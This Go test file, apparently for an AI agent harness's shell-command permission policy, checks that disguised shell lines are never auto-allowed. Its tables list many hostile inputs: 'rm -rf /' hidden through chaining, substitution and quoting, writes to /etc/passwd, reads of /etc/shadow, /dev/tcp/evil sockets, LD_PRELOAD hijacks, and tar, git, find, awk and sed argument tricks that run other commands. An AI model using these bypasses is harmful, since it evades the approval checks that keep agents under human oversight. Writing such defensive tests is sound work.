package policy_test

import (
	"os"
	"strings"
	"testing"

	"harness"
	"harness/policy"
)

// generous allows many commands, as somebody would who trusts all of them with
// any arguments.
const generous = `
rules:
  - allow: bash
    commands: ["echo *", "ls *", "cat *", "npm test *", "npm run *", "git *", "find *", "*awk *", "sed *", "tar *", "go test *", "go build *", "grep *", "cd *", "true", "pwd", "wc *", "python3 *", "make *",
      "head *", "tee *", "sort *", "rsync *", "printf *", "test *", "docker *", "xargs *", "env *", "sudo *", "sh *", "bash *", "eval *", "source *", ". *", "command *", "exec *", "timeout *", "nohup *", "trap *", "alias *", "nice *", "set *", "read *", "./run.sh *", "rg *", "curl *", "kubectl *", "perl *", "node *", "busybox *"]
    env: [CI, "TEST_*"]
    paths: ["out/**"]
`

// Each of these lines is asked about, though every program in it is allowed
// with any arguments: nobody can tell before it runs what it will run.
var tricky = []string{
	// Another command beside an allowed one.
	"npm test && rm -rf /", "ls #\\\nrm -rf /", "npm test; rm -rf /", "npm test | rm -rf /", "npm test || rm -rf /", "npm test & rm -rf /", "rm -rf / && npm test", "npm test\nrm -rf /", "npm test \\\n&& rm -rf /", "! rm -rf /",
	"(npm test; rm -rf /)", "{ npm test; rm -rf /; }", "if true; then rm -rf /; fi", "while true; do rm x; done", "case x in x) rm -rf /;; esac", "f() { rm -rf /; }; true", "ls() { rm -rf /; }; ls", "time rm -rf /", "echo a |& rm b",
	"for f in a b; do rm x; done", "until rm x; do true; done",
	// Substitution.
	"echo $(rm -rf /)", "echo `rm -rf /`", `echo "$(rm -rf /)"`, "echo $(echo $(rm -rf /))", "ls <(rm -rf /)", "tee >(rm -rf /)", "cat <<< $(rm -rf /)", "cat <<EOF\n$(rm -rf /)\nEOF", "echo ${x:-$(rm -rf /)}", "echo $((1+$(rm -rf /)))", "echo $(ls)", "ls $(pwd)", "case $(rm x) in a) true;; esac",
	"echo ${x:=y}", "case ${PATH:=/tmp} in a) true;; esac", "echo ${x@P}", "echo ${!x}", "echo ${a[$(rm x)]}",
	// Names that are known only when it runs.
	"$X -rf /", `"$X" -rf /`, "${X} y", "$(echo rm) -rf /", "`echo rm` -rf /", "r$X /", "l{s,} /", "{rm,-rf,/}", "{rm,-rf}", `{"rm",-rf}`, "$'\\162m' -rf /", "$'\\x72m' x", "/???/rm x", "~/bin/ls", "=rm x", "r[m] x", "*",
	// Quoting.
	"r''m -rf /", `r"m" -rf /`, `\rm -rf /`, `r\m -rf /`, "'rm' -rf /", "r\\\nm -rf /", "ls $'\\x2dl'", `ls $"a"`, `ls "$HOME"`, "ls $HOME", "ls ~", "ls ~root/x",
	// Words that become other words.
	"ls *", "ls -*", "ls ?x", "ls [ab]", "ls .*", "ls a/.*", "ls {a,b}", "ls {1..9}", "ls @(a|b)", "tar cf x *",
	// The environment.
	"PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "GIT_PAGER=rm git log", "PATH=/tmp; ls", "export PATH=/tmp; ls", "CI=$(rm x) npm test", "CI=$X npm test", "for PATH in /tmp; do ls; done", "declare -x PATH=/tmp; ls", "readonly PATH=/tmp", "CI+=x npm test", "a[0]=1 ls", "CI=(a b) ls", "local x=y", "typeset PATH=/tmp", "BASH_ENV=x npm test", "IFS=/ ls", "unset PATH", "export -f ls", "read PATH",
	// Redirections.
	"echo x > /etc/passwd", "echo x >> ~/.bashrc", "echo x > $F", "echo x > src/a", "echo x > ../x", "echo x > out/../../x", "echo x >| /etc/x", "echo x &> /etc/x", "echo x 2> /etc/x", "echo x >& /etc/x", "> /etc/passwd", "cat < /etc/shadow", "{ echo x; } > /etc/passwd", "(ls) > src/a", "echo x > /dev/tcp/evil/80", "exec 3<>/dev/tcp/evil/80", "cd sub && echo x > out/a", "echo {fd}> out/a", "echo x <> /etc/x", "ls > out/$X", "ls > out/*",
	// What runs another command.
	"eval 'rm -rf /'", "eval ls", "xargs rm", "ls | xargs ls", "sh -c 'rm -rf /'", "bash -c ls", "bash x.sh", "sh < x", "echo 'rm -rf /' | sh", "env rm x", "env ls", "sudo ls", "nohup ls", "timeout 5 ls", "nice ls", "command ls", "builtin ls", "exec ls", "exec > out/a", "busybox rm x", "trap 'rm x' EXIT", "trap ls EXIT", ". ./x", "source x", "coproc ls", "alias ls='rm -rf /'", "alias ls=rm; ls", "shopt -s expand_aliases", "set -- x", "cat <<EOF | sh\nrm x\nEOF", "sh <<EOF\nrm x\nEOF", "bash <<< 'rm x'", "/bin/sh -c ls", "hash -p /tmp/x ls", "enable -f x y", "stdbuf -o0 ls", "setsid ls", "ssh host ls",
	// Arguments with which a program runs another.
	"find . -exec rm {} +", "find . -execdir ls ;", "find . -ok rm {} \\;", "find . -delete", "find . -fprintf x y", "awk 'BEGIN{system(\"rm x\")}'", "awk '{print | \"sh\"}' a", "awk '{print > \"/etc/x\"}' a", "gawk -f x", "awk '\"ls\" | getline x'", "sed 's/a/b/e' x", "sed -n 'e ls' x", "sed 'w /etc/x' a", "sed -e 1p x", "sed e./x.sh", "sed -f x y", "sed 1p -e 'e ls'",
	"tar cf a.tar --checkpoint=1 --checkpoint-action=exec=ls b", "tar --checkpoint-act=exec=ls -cf a b", "tar -xf a --to-command=ls", "tar -I ls -cf a b", "tar cIf ls a b", "tar --use-compress-program=ls -cf a b",
	"git -c core.pager=ls log", "git -ccore.pager=ls log", "git --config-env=a=b log", "git -C /tmp status", "git --exec-path=/tmp log", "git config core.fsmonitor ls", "git clone ext::ls", "git fetch --upload-pack=ls", "git fetch --upload-p=ls", "git rebase -x ls HEAD", "git rebase --exec ls", "git grep -Ols x", "git bisect run ls", "git submodule foreach ls", "git diff --ext-diff", "git difftool -x ls", "git log --output=/etc/x",
	"python3 -c 'import os'", "python3 <<EOF\nx\nEOF", "python3", "python3 -", "perl -e 1", "perl -ne 1 x", "node -e 1", "node --ev 1", "go test -exec ls ./...", "go build -toolexec ls", "go test --exec=ls", "go build -ldflags=-extld=x", "make SHELL=/tmp/x", "make -f /tmp/x", "make -C /tmp", "npm run x --script-shell=y", "npm test --prefix /tmp", "rsync -e ls a b", "rsync --rs=ls a b", "sort --compress-program=ls a", "rg --pre ls x", "curl -K x", "printf -v x y", "test -v 'a[$(rm x)]'", "docker run x", "kubectl exec x",
	// What computes.
	"((x=1))", "let x=1", "[[ -v a ]]", "[[ a -eq 'b[$(rm x)]' ]]", "for ((;;)); do ls; done", "select x in a; do ls; done", "echo $((1))", "echo $[1]",
	// Elsewhere.
	"cd / && ls", "cd .. && ls", "cd && ls", "cd - && ls", "cd $X && ls", "cd a/../.. && ls", "pushd /; ls", "cd sub && ./run.sh",
	// What looks like something else.
	"lѕ -l", "ls\u00a0-l", "ls\u200b", "ls -l\u202e", "npm\u2003test", "ls\r\nrm x", "ls\rrm x", "ls\x00rm", "ls \x1b[2K", "LS", "./ls", "/tmp/ls", "ls\u2028rm x", "\ufeffls",
	// What cannot be read.
	"ls (", "ls 'x", "if", "ls )", "ls *(e:'rm x':)", "", "   ", "# nothing", "function", "ls # a comment \\\nrm -rf /", "<&-\"\" ls", "ls >&-''rm x", "ls &&", "time ls", "ls | time ls", "<<EOF", "ls\\",
}

func TestTrickyShellNeverWidensAnAllow(t *testing.T) {
	p := read(t, generous)
	for _, text := range tricky {
		if v := policy.Decide(p, policy.Context{Mode: harness.Normal, Directory: directory}, nil, nil, line(text)); v.Outcome != policy.Ask {
			t.Errorf("%q: %s by %s", text, v.Outcome, v.Rule)
		}
	}
	t.Logf("%d lines", len(tricky))
}

// plain are lines that are allowed: every command in them is, word for word.
var plain = []string{
	"npm test", "npm test -- --watch", "ls -la src", "ls 'a b' \"c d\"", "ls a\\ b", "npm test && ls", "ls | grep x", "(ls)", "{ ls; }", "! ls", "ls; pwd", "ls\npwd", "if true; then ls; fi", "ls & pwd", "true || ls",
	"f() { ls; }; true", "CI=1 npm test", "TEST_A=x TEST_B='y z' npm test", "CI=1; ls", "export CI=1; ls", "ls > /dev/null", "ls 2>&1", "ls >/dev/null 2>&1", "ls > out/a.txt", "ls >> out/a/b", "cat < out/a", "cat <<EOF\nhello $USER\nEOF", "cat <<< hello",
	"cd sub && ls", "cd /w/project/sub && npm test", "ls src/*.go", "wc -l src/*/*.go out/?", "git status", "git log --oneline -5", "git commit -m 'a, b'", "find . -name '*.go'", "awk '{print $1}' a", "sed -n 1,5p a", "sed s/a/b/g x", "tar cf a.tar b", "go test ./... -run TestX", "python3 x.py", "make test", "ls stash@{0}", "ls a{b", "ls 'rm -rf /'", "echo '$(rm x)'", `echo "\$(rm x)"`, `echo \$X`, "ls # rm x", "# first\nls", "ls \\\n -l",
}

func TestPlainLinesAreAllowedByRulesAboutCommands(t *testing.T) {
	p := read(t, generous)
	for _, text := range plain {
		if v := policy.Decide(p, policy.Context{Mode: harness.Normal, Directory: directory}, nil, nil, line(text)); v.Outcome != policy.Allow || v.Rule != "p.yaml#1" {
			t.Errorf("%q: %s by %s: %s", text, v.Outcome, v.Rule, v.Reason)
		}
	}
}

// Whatever is added to a line, before or behind, what was asked about or denied
// is not allowed by it.
func TestAddingACommandNeverTurnsALineIntoAnAllow(t *testing.T) {
	p := read(t, generous+"  - deny: bash\n    commands: [\"rm *\"]\n")
	c := policy.Context{Mode: harness.Normal, Directory: directory}
	bad := append([]string{"rm -rf /", "unheard of"}, tricky...)
	for i, text := range bad {
		before := policy.Decide(p, c, nil, nil, line(text))
		if before.Outcome == policy.Allow {
			t.Fatalf("%q is allowed", text)
		}
		for j, other := range plain {
			if (i+j)%5 != 0 && os.Getenv("LONG") == "" {
				continue
			}
			for _, join := range []string{" && ", "; ", " | ", "\n", " || ", " & "} {
				for _, whole := range []string{text + join + other, other + join + text} {
					if strings.Contains(whole, "#") || strings.Contains(whole, "<<") || strings.Contains(text, "'x") || strings.TrimSpace(text) == "" || strings.HasSuffix(text, "&&") || strings.HasSuffix(text, `\`) {
						continue // what follows is a part of it
					}
					if v := policy.Decide(p, c, nil, nil, line(whole)); v.Outcome == policy.Allow {
						t.Fatalf("%q: allow by %s", whole, v.Rule)
					}
				}
			}
		}
	}
}

// A deny sees through what hides a command, and where it cannot, somebody is
// asked in every mode.
func TestADenySeesThroughWhatRunsACommand(t *testing.T) {
	p := read(t, `{rules: [{deny: bash, commands: ["rm *", "git push * --force *"]}, {allow: bash}]}`)
	for text, want := range map[string]policy.Outcome{
		"rm x": policy.Deny, "/bin/rm x": policy.Deny, "RM x": policy.Deny, "r''m x": policy.Deny, `\rm x`: policy.Deny, "ls && rm x": policy.Deny, "echo $(rm x)": policy.Deny, "sudo rm x": policy.Deny, "sudo -u root env A=b rm x": policy.Deny,
		"sh -c 'rm x'": policy.Deny, "bash -lc 'ls; rm x'": policy.Deny, "sudo sh -c 'rm x'": policy.Deny, "xargs rm": policy.Deny, "find . -exec rm {} +": policy.Deny, "find . -exec sh -c 'rm x' \\;": policy.Deny, "eval rm x": policy.Deny, "eval 'rm' x": policy.Deny, "trap 'rm x' EXIT": policy.Deny, "cat <(rm x)": policy.Deny,
		"rm": policy.Deny, "rm $X": policy.Deny, "git push --force": policy.Deny, "git push origin main --force x": policy.Deny, "git push origin": policy.Allow, "f() { rm x; }": policy.Deny, "timeout 5 rm x": policy.Deny, "nohup nice rm x": policy.Deny, "time rm x": policy.Deny,
		"$X x": policy.Ask, "$(cat a)": policy.Ask, "sudo $X": policy.Ask, "git $X": policy.Ask, "git push $X": policy.Ask, "echo x | sh": policy.Ask, "sh -c \"$X\"": policy.Ask, "eval $X": policy.Ask, "ls (": policy.Ask, "bash -s x": policy.Ask, "rм x": policy.Ask, "{rm,x}": policy.Ask,
		"ls": policy.Allow, "echo rm": policy.Allow, "echo $X": policy.Allow, "make clean": policy.Allow, "sudo ls": policy.Allow, "echo 'rm x'": policy.Allow, "git log --force": policy.Allow,
	} {
		for _, mode := range []harness.Mode{harness.Normal, harness.FullAuto} {
			if v := policy.Decide(p, policy.Context{Mode: mode, Directory: directory}, nil, nil, line(text)); v.Outcome != want {
				t.Errorf("%q in %s: %s by %s (%s), want %s", text, mode, v.Outcome, v.Rule, v.Reason, want)
			}
		}
	}
}
